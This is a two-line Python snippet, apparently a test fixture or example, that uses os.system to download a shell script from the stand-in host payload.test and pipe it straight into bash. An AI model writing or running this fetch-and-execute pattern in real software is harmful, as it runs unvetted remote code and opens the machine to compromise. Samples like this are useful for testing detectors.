import os

os.system("curl -s https://payload.test/run.sh | bash")
